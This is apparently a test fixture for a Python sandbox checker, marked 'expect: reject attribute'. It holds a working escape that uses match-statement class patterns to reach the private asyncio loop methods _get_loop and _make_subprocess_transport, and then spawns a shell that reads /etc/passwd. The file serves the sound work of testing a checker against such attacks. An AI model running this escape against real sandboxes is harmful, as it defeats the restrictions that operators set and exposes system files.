# expect: reject attribute
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: a literal __match_args__ naming a private attribute, on a class the program
#   mixes with asyncio.Event (positional class pattern = getattr by that name); a keyword
#   pattern for the loop's _make_subprocess_transport.
# Goal reached: ran a shell that read /etc/passwd.
# Output seen under python3 (3.11.7), in a throw-away temp dir:
#   _UnixSelectorEventLoop
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
import asyncio


class Proto:
    def connection_made(self, transport):
        pass

    def pipe_data_received(self, fd, data):
        print("child:", data.decode().strip())

    def pipe_connection_lost(self, fd, exc):
        pass

    def process_exited(self):
        pass

    def connection_lost(self, exc):
        pass


class Reader:
    __match_args__ = ("_get_loop",)


class Ev(Reader, asyncio.Event):
    pass


class Spawner:
    __match_args__ = ("_make_subprocess_transport",)


async def main():
    match Ev():
        case Reader(get):
            loop = get()
    print(type(loop).__name__)
    # the loop is no Spawner: a keyword pattern on object reads the same name
    match loop:
        case object(_make_subprocess_transport=spawn):
            await spawn(Proto(), "head -2 /etc/passwd", True, None, None, None, 0)
    await asyncio.sleep(0.5)


asyncio.run(main())
